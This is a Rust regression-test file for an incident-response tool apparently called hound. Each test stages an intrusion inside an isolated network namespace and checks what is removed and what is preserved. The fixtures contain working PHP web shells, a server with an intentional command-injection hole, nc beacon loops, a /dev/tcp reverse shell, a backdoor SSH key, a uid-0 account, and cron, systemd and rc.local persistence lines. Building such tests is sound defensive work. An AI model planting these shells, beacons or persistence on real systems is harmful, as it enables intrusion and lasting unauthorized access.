//! Regression tests for the faults of issue 12, with real processes: each
//! scene runs in a network namespace the test creates (the "victim" address
//! lives on its loopback, so no packet leaves it), with payloads in temp
//! dirs and a fixture root for persistence, accounts and keys. Each test
//! asserts what must be gone, and that every innocent process is alive and
//! every innocent file byte-identical.

use crate::common::{hound_in, Reaped};
use crate::require_root;
use hound::host::netns::Netns;
use std::path::{Path, PathBuf};
use std::process::{Output, Stdio};
use std::time::Duration;

struct Scene {
    ns: Netns,
    /// Under /tmp: where droppers put payloads.
    tmp: tempfile::TempDir,
    /// Under the target dir: not world-writable, like /opt or /var/www.
    home: tempfile::TempDir,
    ind: String,
    /// Killed on drop; the namespace's own Drop then kills what still runs
    /// inside and deletes it.
    children: Vec<Reaped>,
}

fn scene(octet: u8) -> Scene {
    let ns = Netns::create_unique("hd-er").expect("netns");
    let ind = format!("198.51.100.{octet}");
    ns.exec_ok(&["ip", "addr", "add", &format!("{ind}/32"), "dev", "lo"])
        .expect("victim address");
    Scene {
        ns,
        tmp: tempfile::Builder::new()
            .prefix("hd-er")
            .tempdir_in("/tmp")
            .unwrap(),
        // Innocent files live outside every temp folder, wherever the
        // checkout is (a clone under /tmp puts the target dir in one).
        home: {
            std::fs::create_dir_all("/run/hound-test").unwrap();
            tempfile::Builder::new()
                .prefix("hd-er-home")
                .tempdir_in("/run/hound-test")
                .unwrap()
        },
        ind,
        children: Vec::new(),
    }
}

fn write(path: &Path, body: &str) -> PathBuf {
    std::fs::create_dir_all(path.parent().unwrap()).unwrap();
    std::fs::write(path, body).unwrap();
    path.to_path_buf()
}

/// Pids whose command line contains `needle` (zombies excluded).
fn pids_with(needle: &str) -> Vec<i32> {
    let mut out = Vec::new();
    for e in std::fs::read_dir("/proc").unwrap().flatten() {
        let Ok(pid) = e.file_name().to_string_lossy().parse::<i32>() else {
            continue;
        };
        let cmd = std::fs::read(format!("/proc/{pid}/cmdline")).unwrap_or_default();
        let cmd = String::from_utf8_lossy(&cmd).replace('\0', " ");
        if cmd.contains(needle) && alive(pid) {
            out.push(pid);
        }
    }
    out
}

fn alive(pid: i32) -> bool {
    std::fs::read_to_string(format!("/proc/{pid}/stat"))
        .map(|s| {
            let state = s.rsplit(')').next().unwrap_or("").trim_start();
            !state.starts_with('Z') && !state.starts_with('X')
        })
        .unwrap_or(false)
}

/// `pids_with`, only those in the network namespace `ns`: other runs of
/// these tests on the machine (other checkouts) start the same commands,
/// each in namespaces of their own.
fn pids_in(ns: &Netns, needle: &str) -> Vec<i32> {
    use std::os::unix::fs::MetadataExt;
    let ino = |p: String| std::fs::metadata(p).map(|m| m.ino()).ok();
    let want = ino(format!("/run/netns/{}", ns.name()));
    assert!(want.is_some(), "no /run/netns/{}", ns.name());
    pids_with(needle)
        .into_iter()
        .filter(|pid| ino(format!("/proc/{pid}/ns/net")) == want)
        .collect()
}

/// Waits (readiness, not timing) until a process in `ns` whose command
/// line holds `needle` runs, and returns its pid.
fn wait_for(ns: &Netns, needle: &str) -> i32 {
    for _ in 0..100 {
        if let Some(p) = pids_in(ns, needle).first() {
            return *p;
        }
        std::thread::sleep(Duration::from_millis(50));
    }
    panic!("{needle}: never started");
}

impl Scene {
    /// Starts `argv` inside the namespace as a child of the test.
    fn child(&mut self, argv: &[&str]) {
        let c = self
            .ns
            .command(argv[0])
            .args(&argv[1..])
            .stdin(Stdio::null())
            .stdout(Stdio::null())
            .stderr(Stdio::null())
            .spawn()
            .unwrap();
        self.children.push(Reaped(c));
    }

    /// Starts `sh -c script` inside the namespace as a daemon (parent init).
    fn daemon(&self, script: &str) {
        let st = self
            .ns
            .command("setsid")
            .args(["-f", "sh", "-c", script])
            .stdin(Stdio::null())
            .stdout(Stdio::null())
            .stderr(Stdio::null())
            .status()
            .unwrap();
        assert!(st.success());
    }

    fn hound(&self, case: &Path, args: &[&str]) -> Output {
        let out = hound_in(&self.ns)
            .arg("--case")
            .arg(case)
            .args(args)
            .stdin(Stdio::null())
            .output()
            .unwrap();
        eprintln!(
            "hound {args:?}:\n{}\n{}",
            String::from_utf8_lossy(&out.stdout),
            String::from_utf8_lossy(&out.stderr)
        );
        out
    }
}

fn text(o: &Output) -> String {
    format!(
        "{}{}",
        String::from_utf8_lossy(&o.stdout),
        String::from_utf8_lossy(&o.stderr)
    )
}

fn plan_items(case: &Path) -> Vec<serde_json::Value> {
    let p: serde_json::Value =
        serde_json::from_slice(&std::fs::read(case.join("plan.json")).unwrap()).unwrap();
    p["items"].as_array().cloned().unwrap_or_default()
}

/// Files and their bytes, to check later that nothing innocent changed.
fn snapshot(files: &[&PathBuf]) -> Vec<(PathBuf, Vec<u8>)> {
    files
        .iter()
        .map(|f| (f.to_path_buf(), std::fs::read(f).unwrap()))
        .collect()
}

fn assert_unchanged(snap: &[(PathBuf, Vec<u8>)]) {
    for (f, bytes) in snap {
        assert_eq!(
            &std::fs::read(f).unwrap_or_default(),
            bytes,
            "{} changed",
            f.display()
        );
    }
}

/// OpenSSH's fingerprint of a key line: SHA256 of the blob, base64 without padding.
fn fingerprint(key_line: &str) -> String {
    use sha2::Digest;
    const A: &[u8] = b"ABCDEFGHIJKLMNOPQRSTUVWXYZabcdefghijklmnopqrstuvwxyz0123456789+/";
    let b64 = |b: &[u8]| -> String {
        let mut out = String::new();
        for c in b.chunks(3) {
            let n = c
                .iter()
                .enumerate()
                .fold(0u32, |n, (i, x)| n | (*x as u32) << (16 - 8 * i));
            for i in 0..=c.len() {
                out.push(A[(n >> (18 - 6 * i) & 63) as usize] as char);
            }
        }
        out
    };
    let blob = key_line.split(' ').nth(1).unwrap();
    let mut bytes = Vec::new();
    let vals: Vec<u32> = blob
        .bytes()
        .filter(|c| *c != b'=')
        .map(|c| A.iter().position(|a| *a == c).unwrap() as u32)
        .collect();
    for q in vals.chunks(4) {
        let n = q
            .iter()
            .enumerate()
            .fold(0u32, |n, (i, v)| n | v << (18 - 6 * i));
        for i in 0..q.len() - 1 {
            bytes.push((n >> (16 - 8 * i)) as u8);
        }
    }
    format!("SHA256:{}", b64(&sha2::Sha256::digest(&bytes)))
}

/// A tiny web server with a command-injection hole (`?c=` runs through
/// `sh -c`), listening on 127.0.0.1:8080 inside the namespace. Like a real
/// server it survives a client that resets (the playbook's service check
/// may), so a dead server means the playbook killed it.
const SERVER: &str = r#"
import socket, subprocess, urllib.parse
s = socket.socket(); s.setsockopt(socket.SOL_SOCKET, socket.SO_REUSEADDR, 1)
s.bind(("127.0.0.1", 8080)); s.listen(8)
while True:
    c, _ = s.accept()
    try:
        req = c.recv(4096).decode(errors="replace").split(" ")
        q = urllib.parse.urlparse(req[1] if len(req) > 1 else "/").query
        cmd = urllib.parse.parse_qs(q).get("c")
        if cmd:
            subprocess.Popen(["sh", "-c", cmd[0]], stdin=subprocess.DEVNULL, stdout=subprocess.DEVNULL, stderr=subprocess.DEVNULL)
        c.sendall(b"HTTP/1.0 200 OK\r\n\r\nok\n")
    except OSError:
        pass
    c.close()
"#;

fn http_get(ns: &Netns, path: &str) -> String {
    let path = path.to_string();
    ns.run(move || {
        use std::io::{Read, Write};
        let mut s = std::net::TcpStream::connect("127.0.0.1:8080").ok()?;
        s.write_all(format!("GET {path} HTTP/1.0\r\n\r\n").as_bytes())
            .ok()?;
        let mut out = String::new();
        s.read_to_string(&mut out).ok()?;
        Some(out)
    })
    .unwrap()
    .unwrap_or_default()
}

/// Faults 1 and 3 of issue 12: a beacon dropped through a web shell and
/// started by the web server. The server (which listens, and whose accept
/// loop looks like a spawner) must survive and keep serving; the payload,
/// the web shell and both persistence entries must go, innocent entries
/// stay byte-identical; the backdoor account and key wait for approval.
/// The plan is made in a dry run (which changes nothing) and carried out
/// with `hound apply`.
#[test]
fn web_server_parent_survives_and_the_drop_and_its_persistence_go() {
    require_root!();
    let mut s = scene(31);
    let ind = s.ind.clone();
    let payload = s.tmp.path().join(".cache/.x/b.sh");
    let key =
        "ssh-ed25519 AAAAC3NzaC1lZDI1NTE5AAAAIHhvdW5kdGVzdGtleWZvcmJhY2tkb29yMTIzNDU2Nzg5 op@evil";
    // Tied only by a login from the web attacker's address (auth log).
    let used_key = "ssh-ed25519 AAAAC3NzaC1lZDI1NTE5AAAAIG9wc2tleXVzZWRmcm9tdGhlYXR0YWNrZXJzaXAxMjM0NTY3 ops@evil";
    let good_key = "ssh-ed25519 AAAAC3NzaC1lZDI1NTE5AAAAIGFkbWluc2tleWlzaW5ub2NlbnRhbmRzdGF5czEyMzQ1 admin@corp";
    write(
        &payload,
        &format!(
            "# added: echo '{key}' >> /root/.ssh/authorized_keys\nwhile true; do nc -w 2 {ind} 8443 </dev/null >/dev/null 2>&1; sleep 0.3; done\n"
        ),
    );
    let notes = write(&s.tmp.path().join("notes.txt"), "build notes, innocent\n");
    let www = s.home.path().join("www");
    let index = write(&www.join("index.php"), "<?php echo date('Y'); ?>\n");
    let shell = write(&www.join("up.php"), "<?php system($_GET['c']); ?>\n");
    // A second web shell, called by a plain form POST (nothing in the URL).
    let shell2 = write(
        &www.join("uploads/.t.php"),
        "<?php if(isset($_POST['c'])){system($_POST['c']);} ?>\n",
    );
    let upload = write(
        &www.join("upload.php"),
        "<?php move_uploaded_file($_FILES['f']['tmp_name'], 'uploads/' . $_FILES['f']['name']); ?>\n",
    );
    let log = write(
        &s.home.path().join("log/access.log"),
        &format!(
            "192.0.2.50 - - [30/Nov/2026:10:00:00 +0000] \"GET /index.php HTTP/1.1\" 200 12 \"-\" \"Mozilla/5.0\"\n\
             192.0.2.66 - - [30/Nov/2026:09:59:00 +0000] \"POST /upload.php HTTP/1.1\" 200 6 \"-\" \"curl/8.0\"\n\
             192.0.2.66 - - [30/Nov/2026:09:59:30 +0000] \"POST /uploads/.t.php HTTP/1.1\" 200 0 \"-\" \"curl/8.0\"\n\
             192.0.2.66 - - [30/Nov/2026:10:00:05 +0000] \"GET /up.php?c=curl%20-so%20{p}%20http://{ind}/b HTTP/1.1\" 200 3 \"-\" \"curl/8.0\"\n",
            p = payload.display()
        ),
    );
    let root = s.home.path().join("root");
    let pl = payload.display().to_string();
    let cron_only = write(
        &root.join("etc/cron.d/sysupd"),
        &format!("SHELL=/bin/sh\n*/5 * * * * root bash {pl}\n"),
    );
    let cron_mixed = write(
        &root.join("etc/cron.d/backup"),
        &format!("# nightly backup\n0 3 * * * root /usr/local/bin/backup.sh\n@reboot root bash {pl}\n30 4 * * * root /usr/local/bin/rotate.sh\n"),
    );
    let unit = write(
        &root.join("etc/systemd/system/dbus-helper.service"),
        &format!("[Unit]\nDescription=helper\n[Service]\nExecStart=/bin/bash {pl}\n[Install]\nWantedBy=multi-user.target\n"),
    );
    // A legitimate unit the attacker added one line to: only that line goes.
    let hooked = write(
        &root.join("etc/systemd/system/www-helper.service"),
        &format!("[Service]\nExecStartPre=/bin/bash {pl}\nExecStart=/usr/local/bin/helper\n"),
    );
    let good_unit = write(
        &root.join("etc/systemd/system/nightly.service"),
        "[Unit]\nDescription=nightly\n[Service]\nExecStart=/usr/local/bin/backup.sh\n",
    );
    let passwd = write(
        &root.join("etc/passwd"),
        "root:x:0:0:root:/root:/bin/bash\ntoor:x:0:0::/root:/bin/bash\nalice:x:1000:1000::/home/alice:/bin/bash\n",
    );
    let keys = write(
        &root.join("root/.ssh/authorized_keys"),
        &format!("{good_key}\n{key}\n{used_key}\n"),
    );
    let auth = write(
        &s.home.path().join("log/auth.log"),
        &format!(
            "Nov 30 10:01:00 www sshd[811]: Accepted publickey for alice from 192.0.2.50 port 50522 ssh2: ED25519 {}\n\
             Nov 30 10:02:00 www sshd[812]: Accepted publickey for root from 192.0.2.66 port 50600 ssh2: ED25519 {}\n",
            fingerprint(good_key),
            fingerprint(used_key)
        ),
    );
    let ticker = write(
        &s.home.path().join("opt/ticker.sh"),
        "while true; do sleep 1; done\n",
    );
    s.child(&["nc", "-lk", &ind, "8443"]);
    s.child(&["bash", ticker.to_str().unwrap()]);
    s.child(&["python3", "-c", SERVER]);
    let ticker_pid = wait_for(&s.ns, ticker.to_str().unwrap());
    let server_pid = wait_for(&s.ns, "s.bind((\"127.0.0.1\", 8080))");
    for _ in 0..100 {
        if http_get(&s.ns, "/").contains("ok") {
            break;
        }
        std::thread::sleep(Duration::from_millis(50));
    }
    // The attack: the web shell runs the dropped payload.
    http_get(&s.ns, &format!("/up.php?c=bash%20{pl}"));
    let loop_pid = wait_for(&s.ns, &format!("bash {pl}"));
    let innocent = [&notes, &index, &upload, &good_unit, &passwd, &keys, &ticker];
    let snap = snapshot(&innocent);
    let all = snapshot(&[&payload, &shell, &shell2, &cron_only, &cron_mixed, &unit]);

    let case = s.home.path().join("case");
    let common = [
        "run".to_string(),
        "incident-response".into(),
        "-p".into(),
        format!("victim={ind}"),
        "-p".into(),
        "victim_port=8443".into(),
        "-p".into(),
        "watch_seconds=3".into(),
        "-p".into(),
        "services=127.0.0.1:8080".into(),
        "-p".into(),
        format!("root={}", root.display()),
        "-p".into(),
        format!("access_logs={}", log.display()),
        "-p".into(),
        format!("web_roots={}", www.display()),
        "-p".into(),
        format!("auth_logs={}", auth.display()),
    ];
    let mut dry: Vec<&str> = vec!["--dry-run"];
    dry.extend(common.iter().map(String::as_str));
    let out = s.hound(&case, &dry);
    let t = text(&out);
    assert!(t.contains("would stop"), "{t}");
    assert!(t.contains("would quarantine"), "{t}");
    assert!(!t.contains("Stopped") && !t.contains("Quarantined"), "{t}");
    assert!(alive(loop_pid), "a dry run stopped the beacon");
    assert_unchanged(&snap);
    assert_unchanged(&all);
    let items = plan_items(&case);
    let targets: Vec<String> = items.iter().map(|i| i["target"].to_string()).collect();
    assert!(
        !targets
            .iter()
            .any(|t| t.contains(&format!("\"pid\":{server_pid}"))),
        "the web server was planned for: {targets:?}"
    );
    assert!(
        !targets
            .iter()
            .any(|t| t.contains("index.php") || t.contains("notes.txt") || t.contains("nightly")),
        "{targets:?}"
    );
    assert!(t.contains("find how they got in"), "{t}");
    let dry_text = t;

    // Carry out the saved plan.
    let out = s.hound(&case, &["apply", case.to_str().unwrap()]);
    let t = text(&out);
    for _ in 0..40 {
        if pids_with(&pl).is_empty() {
            break;
        }
        std::thread::sleep(Duration::from_millis(50));
    }
    assert!(pids_with(&pl).is_empty(), "the beacon still runs\n{t}");
    assert!(
        !payload.exists() && !shell.exists() && !cron_only.exists() && !unit.exists(),
        "{t}"
    );
    assert_eq!(
        std::fs::read_to_string(&cron_mixed).unwrap(),
        "# nightly backup\n0 3 * * * root /usr/local/bin/backup.sh\n30 4 * * * root /usr/local/bin/rotate.sh\n"
    );
    assert!(
        alive(server_pid) && alive(ticker_pid),
        "an innocent process died: server {server_pid} alive {}, ticker {ticker_pid} alive {}\n{t}",
        alive(server_pid),
        alive(ticker_pid)
    );
    assert!(
        http_get(&s.ns, "/").contains("ok"),
        "the web server stopped serving"
    );
    assert_unchanged(&snap);
    assert_eq!(
        std::fs::read_to_string(&hooked).unwrap(),
        "[Service]\nExecStart=/usr/local/bin/helper\n"
    );
    // The key was planned, but waits for approval; the account (in an
    // image root, not the running system) is reported for locking.
    let items = plan_items(&case);
    let key_items: Vec<&serde_json::Value> = items
        .iter()
        .filter(|i| i["action"] == "remove_line" && i["approval"] == "required")
        .collect();
    // One key is named in the payload, the other was used from the web
    // attacker's address (auth log); the admin's key stays.
    let texts: Vec<&str> = key_items
        .iter()
        .map(|i| i["target"]["text"].as_str().unwrap())
        .collect();
    assert_eq!(texts.len(), 2, "{items:?}");
    assert!(
        texts.contains(&key) && texts.contains(&used_key),
        "{texts:?}"
    );
    assert!(
        key_items.iter().all(|i| i["status"] != "done"),
        "{key_items:?}"
    );
    assert!(
        dry_text.contains("Lock the extra uid-0 account toor"),
        "{dry_text}"
    );
    let graph = std::fs::read_to_string(case.join("graph.json")).unwrap();
    for relation in [
        "written by request",
        "serves",
        "runs",
        "connects to",
        "child of",
    ] {
        assert!(
            graph.contains(&format!("\"{relation}\"")),
            "{relation}: {graph}"
        );
    }
    let report = std::fs::read_to_string(case.join("reports/report.html")).unwrap();
    assert!(
        report.contains("<svg") && report.contains("Incident graph"),
        "no graph in the report"
    );
}

/// Fault 2: the beacon's parent is an ordinary admin script outside any
/// temp folder. It is neither killed nor quarantined; the loop and its
/// payload are.
#[test]
fn an_innocent_admin_script_parent_is_left_alone() {
    require_root!();
    let mut s = scene(32);
    let ind = s.ind.clone();
    let payload = write(
        &s.tmp.path().join(".s/run.sh"),
        &format!("while true; do nc -w 2 {ind} 9001 </dev/null >/dev/null 2>&1; sleep 0.3; done\n"),
    );
    let admin = write(
        &s.home.path().join("opt/admin/rotate-logs.sh"),
        &format!(
            "bash {} &\nwhile true; do sleep 1; done\n",
            payload.display()
        ),
    );
    s.child(&["nc", "-lk", &ind, "9001"]);
    s.child(&["bash", admin.to_str().unwrap()]);
    let admin_pid = wait_for(&s.ns, admin.to_str().unwrap());
    let loop_pid = wait_for(&s.ns, &format!("bash {}", payload.display()));
    let snap = snapshot(&[&admin]);
    let case = s.home.path().join("case");
    let root = s.home.path().join("root");
    write(
        &root.join("etc/passwd"),
        "root:x:0:0:root:/root:/bin/bash\n",
    );
    let out = s.hound(
        &case,
        &[
            "--allow-destructive",
            "run",
            "remediate",
            "-p",
            &format!("indicators={ind}:9001"),
            "-p",
            "find_seconds=3",
            "-p",
            "watch_seconds=2",
            "-p",
            &format!("root={}", root.display()),
            "-p",
            "access_logs=",
        ],
    );
    let t = text(&out);
    assert!(!alive(loop_pid), "the loop survived\n{t}");
    assert!(!payload.exists(), "the payload stayed\n{t}");
    assert!(alive(admin_pid), "the admin script was killed\n{t}");
    assert_unchanged(&snap);
    assert!(t.contains("which nothing ties to the attack"), "{t}");
    assert!(t.contains("No activity after remediation"), "{t}");
}

/// Fault 5: a reverse shell running as a daemon (parent init) from a
/// deleted binary, started from a user crontab. The daemon is the target,
/// never pid 1; the playbook ends with the report; the crontab loses only
/// the malicious line.
#[test]
fn a_daemon_under_init_is_stopped_and_the_report_is_written() {
    require_root!();
    let s = scene(33);
    let ind = s.ind.clone();
    let bin = s.tmp.path().join(".k/kworkerd");
    std::fs::create_dir_all(bin.parent().unwrap()).unwrap();
    std::fs::copy("/bin/bash", &bin).unwrap();
    // `true` is a plain builtin: a failed connect does not end the shell,
    // and the daemon makes each connection itself (no child).
    let code = format!("while true; do true 3<>/dev/tcp/{ind}/4444; sleep 0.5; done");
    s.daemon(&format!("exec {} -c '{code}'", bin.display()));
    // The quote-less form matches only once the daemon has exec'd the
    // binary (the launcher's command line holds it quoted), so it is
    // deleted only after it runs.
    let pid = wait_for(&s.ns, &format!("{} -c while true", bin.display()));
    std::fs::remove_file(&bin).unwrap();
    let root = s.home.path().join("root");
    write(
        &root.join("etc/passwd"),
        "root:x:0:0:root:/root:/bin/bash\n",
    );
    let tab = write(
        &root.join("var/spool/cron/crontabs/root"),
        &format!(
            "MAILTO=root\n15 * * * * /usr/local/bin/report.sh\n@reboot {}\n",
            bin.display()
        ),
    );
    let b = bin.display().to_string();
    let sshrc = write(
        &root.join("root/.ssh/rc"),
        &format!("xauth add $DISPLAY 2>/dev/null\n(setsid {b} &) >/dev/null 2>&1\n"),
    );
    let profile = write(
        &root.join("etc/profile.d/zz-update.sh"),
        &format!("# shell helpers\n[ -x {b} ] && {b} &\n"),
    );
    let rc_local = write(
        &root.join("etc/rc.local"),
        &format!("#!/bin/sh -e\n/usr/local/bin/fan-control --auto\nnohup {b} &\nexit 0\n"),
    );
    let bashrc = write(
        &root.join("root/.bashrc"),
        "alias ll='ls -l'\nexport EDITOR=vi\n",
    );
    let bashrc_before = std::fs::read(&bashrc).unwrap();
    let case = s.home.path().join("case");
    let out = s.hound(
        &case,
        &[
            "--allow-destructive",
            "run",
            "incident-response",
            "-p",
            &format!("victim={ind}"),
            "-p",
            "watch_seconds=2",
            "-p",
            &format!("root={}", root.display()),
            "-p",
            "access_logs=",
        ],
    );
    let t = text(&out);
    assert!(!alive(pid), "the reverse shell survived\n{t}");
    assert!(case.join("reports/report.md").exists(), "no report\n{t}");
    assert_eq!(
        std::fs::read_to_string(&tab).unwrap(),
        "MAILTO=root\n15 * * * * /usr/local/bin/report.sh\n"
    );
    // ~/.ssh/rc and rc.local keep their other lines; a profile script that
    // only starts the payload goes whole; an innocent .bashrc is untouched.
    assert_eq!(
        std::fs::read_to_string(&sshrc).unwrap(),
        "xauth add $DISPLAY 2>/dev/null\n"
    );
    assert_eq!(
        std::fs::read_to_string(&rc_local).unwrap(),
        "#!/bin/sh -e\n/usr/local/bin/fan-control --auto\nexit 0\n"
    );
    assert!(!profile.exists(), "{t}");
    assert_eq!(std::fs::read(&bashrc).unwrap(), bashrc_before);
    let items = plan_items(&case);
    assert!(
        items.iter().all(|i| i["target"]["pid"] != 1),
        "init was planned for: {items:?}"
    );
    assert!(!t.contains("Step \""), "a step failed: {t}");
}

/// Faults 4 and 6: `remediate` run alone, before any containment, on a
/// beacon whose connections are refused in microseconds; the loop reads its
/// script on standard input (`bash -s /usr/sbin/agetty < payload`), and an
/// older innocent process with the same command line runs in another mount
/// namespace. The origin is found (attempts are held with a brief block),
/// stopped and its script quarantined; /usr/sbin/agetty is no target; the
/// innocent twin lives and is not called a respawn.
#[test]
fn remediate_alone_finds_millisecond_beacons_and_their_real_script() {
    require_root!();
    let s = scene(34);
    let ind = s.ind.clone();
    let dir = s.tmp.path().join(".u");
    let payload = dir.join("u.sh");
    // The twin first: same path, its own tmpfs, innocent content.
    s.daemon(&format!(
        "exec unshare -m --propagation private sh -c 'mkdir -p {d} && mount -t tmpfs t {d} && echo \"while true; do sleep 1; done\" > {p} && exec bash -s /usr/sbin/agetty < {p}'",
        d = dir.display(),
        p = payload.display()
    ));
    let twin = wait_for(&s.ns, "bash -s /usr/sbin/agetty");
    write(
        &payload,
        &format!("while true; do nc -z {ind} 7777 >/dev/null 2>&1; sleep 0.3; done\n"),
    );
    s.daemon(&format!(
        "exec bash -s /usr/sbin/agetty < {}",
        payload.display()
    ));
    let bot = loop {
        if let Some(p) = pids_in(&s.ns, "bash -s /usr/sbin/agetty")
            .into_iter()
            .find(|p| *p != twin)
        {
            break p;
        }
        std::thread::sleep(Duration::from_millis(50));
    };
    let root = s.home.path().join("root");
    write(
        &root.join("etc/passwd"),
        "root:x:0:0:root:/root:/bin/bash\n",
    );
    let case = s.home.path().join("case");
    let out = s.hound(
        &case,
        &[
            "--allow-destructive",
            "run",
            "remediate",
            "-p",
            &format!("indicators={ind}:7777"),
            "-p",
            "find_seconds=3",
            "-p",
            "watch_seconds=2",
            "-p",
            &format!("root={}", root.display()),
            "-p",
            "access_logs=",
        ],
    );
    let t = text(&out);
    assert!(!alive(bot), "the beacon survived\n{t}");
    assert!(!payload.exists(), "its script stayed\n{t}");
    assert!(alive(twin), "the innocent twin was killed\n{t}");
    assert!(t.contains("No activity after remediation"), "{t}");
    assert!(!t.contains("goes on") && !t.contains("came back"), "{t}");
    // The report says the same: nothing came back (the twin is no respawn).
    let rep = s.hound(&case, &["report", case.to_str().unwrap()]);
    let r = text(&rep);
    assert!(r.contains("## Plan"), "{r}");
    assert!(!r.contains("came back") && !r.contains("RESPAWNED"), "{r}");
    let items = plan_items(&case);
    assert!(
        !items
            .iter()
            .any(|i| i["target"]["path"] == "/usr/sbin/agetty"),
        "{items:?}"
    );
    // The brief block was lifted.
    let nft = s.ns.exec(&["nft", "list", "ruleset"]).unwrap();
    assert!(
        !String::from_utf8_lossy(&nft.stdout).contains(&ind),
        "the hold block stayed"
    );
}
